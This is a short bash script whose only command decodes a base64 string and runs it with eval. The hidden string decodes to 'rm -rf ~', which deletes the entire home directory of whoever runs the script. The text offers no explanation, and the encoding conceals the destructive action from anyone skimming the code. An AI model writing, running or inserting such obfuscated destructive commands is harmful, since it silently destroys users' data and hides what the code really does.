#!/bin/bash
eval "$(echo 'cm0gLXJmIH4K' | base64 --decode)"
